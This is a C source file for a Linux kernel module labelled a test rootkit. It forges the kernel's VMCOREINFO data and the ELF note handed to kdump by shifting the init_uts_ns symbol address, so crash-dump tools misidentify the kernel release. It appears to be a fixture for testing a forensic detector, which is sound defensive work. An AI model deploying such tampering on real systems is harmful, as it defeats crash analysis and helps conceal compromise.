// Test rootkit: forges the kernel's own VMCOREINFO, what kdump, makedumpfile and
// crash believe about the kernel: SYMBOL(init_uts_ns) is moved by a few bytes (a
// crash dump would then name another release), in vmcoreinfo_data and in the ELF
// note /sys/kernel/vmcoreinfo hands to kdump (vmcoreinfo_note).
#include <linux/module.h>
#include <linux/string.h>

#include "nfm_rk.h"

static const char key[] = "SYMBOL(init_uts_ns)=";

// Moves the address after `key` in a VMCOREINFO text: its last hex digit changes.
static char* forge(char* text, size_t len) {
  char *line = strnstr(text, key, len), *end;
  if (!line) return NULL;
  end = strnchr(line, len - (line - text), '\n');
  if (!end || end - line < (long)sizeof key) return NULL;
  end[-1] = end[-1] == '0' ? '8' : '0';
  return line;
}

static int __init forge_init(void) {
  unsigned char** data = (unsigned char**)nfm_rk_lookup("vmcoreinfo_data");
  size_t* size = (size_t*)nfm_rk_lookup("vmcoreinfo_size");
  // The ELF note kdump is handed (/sys/kernel/vmcoreinfo): a header, then the text.
  char** note = (char**)nfm_rk_lookup("vmcoreinfo_note");
  char* line;
  if (!data || !*data || !size || !note || !*note) return -ENOENT;
  line = forge((char*)*data, *size);
  if (!line) return -ENOENT;
  forge(*note, *size + 64);
  pr_info("nfm_rk_vmcoreinfo: forged %.*s\n", (int)(strchr(line, '\n') - line), line);
  return 0;
}

static void __exit forge_exit(void) {}

module_init(forge_init);
module_exit(forge_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: a forged VMCOREINFO");
